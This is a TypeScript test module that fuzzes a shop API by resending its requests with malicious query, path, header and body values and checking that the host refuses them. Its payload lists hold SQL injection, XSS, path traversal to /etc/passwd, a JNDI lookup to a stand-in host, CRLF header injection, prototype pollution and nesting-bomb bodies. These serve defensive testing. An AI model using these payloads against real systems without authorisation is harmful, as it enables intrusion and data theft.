/**
 * Sends the requests of the run again with malicious values. A host fails with an internal error,
 * an undeclared status without the message of a refusal, an injected header, or a success that the
 * contract excludes.
 */
import { contract, type Operation, operations } from '@shop/contract'
import { valueAt } from '@shop/contract/host/describe-value'
import * as z from 'zod/mini'
import { isRefused } from '../exchange.ts'
import { CONNECTION_CLOSED, type OperationRequest } from '../http.ts'
import type { Route } from '../readable.ts'
import { isSuccess } from '../report.ts'
import type { Run } from '../run.ts'
import { createAccount } from './accounts.ts'
import { fillCart, type Product } from './carts.ts'
import { idempotencyKey } from './requests.ts'

/** Sent as JSON in bodies, as text in queries and paths. */
const MALICIOUS_VALUES: readonly unknown[] = [
  null,
  -1,
  1e308,
  18_014_398_509_481_984,
  '',
  [],
  [['nested'], { key: {} }],
  { $gt: '' },
  `' OR '1'='1' -- `,
  '<script>alert(1)</script>',
  '../../../../etc/passwd\u0000.png',
  '$\u007bjndi:ldap://foreign-host.example/x}{{7*7}}',
  'value\r\nX-Injected: 1',
  '\ud800 \u202e \u{1f600}',
  'x'.repeat(1_500),
]

const MALICIOUS_BODIES: readonly string[] = [
  '',
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}}}',
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  '{"unfinished":',
  '\u0000',
]

export async function checkMaliciousInput(run: Run, products: readonly Product[]): Promise<void> {
  const account = await createAccount(run)
  const { email, password, token, customer_id } = account ?? {}
  const cart = await fillCart(run, products.slice(0, 1), account)
  const { cart_uid, cart_id } = cart ?? {}
  const keys = { email, password, token, customer_id, cart_uid, cart_id, cartUid: cart_uid }
  const own = new Map<string, unknown>(Object.entries(keys))
  // The reads first, while the account has no rows, and the sign-out last, because the others need
  // the session.
  const place = ({ name, route }: Operation) =>
    Number(route.method !== 'GET') + Number(name === 'auth.signout')
  for (const operation of operations.toSorted((a, b) => place(a) - place(b)))
    if (run.isSelected(operation.name)) await checkOperation(run, operation, own)
  // The host still responds.
  await run.request(contract.catalog.products)
}

/** @param own the keys of an account and its cart, since those of earlier requests are used up */
async function checkOperation(run: Run, operation: Operation, own: ReadonlyMap<string, unknown>) {
  const { name, route, metadata } = operation
  // Where the other checks did not reach a call, this shows whether the host has it at all.
  if (!run.sent.has(operation) && 'body' in route)
    await run.request(route, { body: {} }, [400, 401, 404, 415, 422])
  const { request: { body, ...request } = {} } = run.sent.get(operation) ?? {}
  const renew = <T>(part: T): T =>
    JSON.parse(JSON.stringify(part), (key, value) => {
      if (key === 'email' && name === 'auth.signup') return run.newEmail()
      return own.get(key) ?? value
    })
  const isJson = body !== undefined && !(body instanceof FormData)
  const valid = { ...renew(request), body: isJson ? renew(body) : body }
  const isPrivate = own.get('token') !== undefined && metadata.auth === 'customer'
  for (const malicious of maliciousRequests(route, valid)) {
    const response = await send(run, route, malicious)
    const rows = valueAt(response.body, ['data', 'length'])
    if (isPrivate && rows !== undefined)
      run.compare(response, "other customers' data", 'data', 0, rows)
  }
}

function* maliciousRequests(route: Route, valid: OperationRequest): Generator<OperationRequest> {
  for (const part of ['query', 'params', 'headers'] as const)
    for (const key of Object.keys(valid[part] ?? {})) yield* maliciousTexts(valid, part, key)
  if (route.method === 'GET' || !('body' in route)) return
  // A used key would hide the body behind 409.
  const fresh = () => (valid.headers?.['idempotency-key'] === undefined ? {} : idempotencyKey())
  const bodies =
    valid.body instanceof FormData ? [] : maliciousBodies(JSON.stringify(valid.body ?? {}))
  for (const body of [...bodies, ...MALICIOUS_BODIES]) yield { ...valid, body, headers: fresh() }
  yield {
    ...valid,
    body: 'x',
    headers: { ...fresh(), 'content-type': 'multipart/form-data; boundary=' },
  }
}

function* maliciousTexts(
  valid: OperationRequest,
  part: 'query' | 'params' | 'headers',
  key: string,
): Generator<OperationRequest> {
  for (const value of MALICIOUS_VALUES) {
    const text = typeof value === 'string' ? value : JSON.stringify(value)
    // Node.js sends no other headers.
    const canBeSent = part !== 'headers' || /^[ -~]*$/.test(text)
    if (canBeSent) yield { ...valid, [part]: { ...valid[part], [key]: text || ' ' } }
  }
}

/** Replaces or removes each field, at any depth, and the whole body. */
function maliciousBodies(json: string): unknown[] {
  const names = new Set<string>()
  JSON.parse(json, (name) => names.add(name))
  return [...names].flatMap((name) =>
    [undefined, ...MALICIOUS_VALUES].map((malicious): unknown =>
      JSON.parse(json, (key, value: unknown) => (key === name ? malicious : value)),
    ),
  )
}

async function send(run: Run, route: Route, request: OperationRequest) {
  const response = await run.send(route, request)
  const { status, operation } = response
  if (status === CONNECTION_CLOSED) return response
  const rule = 'malicious input'
  const declared = Object.keys(operation.route.responses).filter((each) => Number(each) < 500)
  // The shop reads every 2xx alike.
  const isAllowed = isSuccess(status) || isRefused(response) || declared.includes(String(status))
  run.check(response, rule, isAllowed, 'status', declared.join(', '), String(status))
  const isInjected = response.headers['x-injected'] !== undefined
  run.check(response, rule, !isInjected, 'header x-injected', 'no such header', 'x-injected')
  const { body, query = {}, params = {} } = request
  const sent: unknown =
    typeof body === 'string' ? await new Response(body).json().catch(() => body) : body
  // A sign-out needs nothing of its body.
  const isInvalid =
    operation.name !== 'auth.signout' &&
    (breaks(route.query, query) ||
      breaks(route.pathParams, params) ||
      breaks('body' in route && route.body, sent))
  const broken = SENSITIVE.test(operation.name) ? 'invalid requests' : 'harmless invalid requests'
  run.check(response, broken, !(isSuccess(status) && isInvalid), '', 'a refusal', String(status))
  return response
}

/** Calls of accounts, sessions, passwords, orders and money. */
const SENSITIVE = /^(?:auth|profile\.(?:updateDetail|updatePassword)|order|coupon|payment)/

/**
 * Whether a value breaks a schema, apart from optional and unknown fields, which a host may ignore.
 */
function breaks(schema: unknown, value: unknown): boolean {
  if (!(schema instanceof z.core.$ZodType)) return false
  const shape = schema instanceof z.core.$ZodObject ? schema._zod.def.shape : {}
  const isOptional = (field: z.core.$ZodType | undefined) =>
    field && z.safeParse(field, undefined).success
  const issues = z.safeParse(schema, value).error?.issues ?? []
  return issues.some(({ code, path: [name] }) => {
    // A rule in code (`custom`) is not in OpenAPI, but for those of passwords, which `x-rules` has.
    const isKnown = code !== 'custom' || /password/.test(String(name))
    return isKnown && code !== 'unrecognized_keys' && !isOptional(shape[String(name)])
  })
}
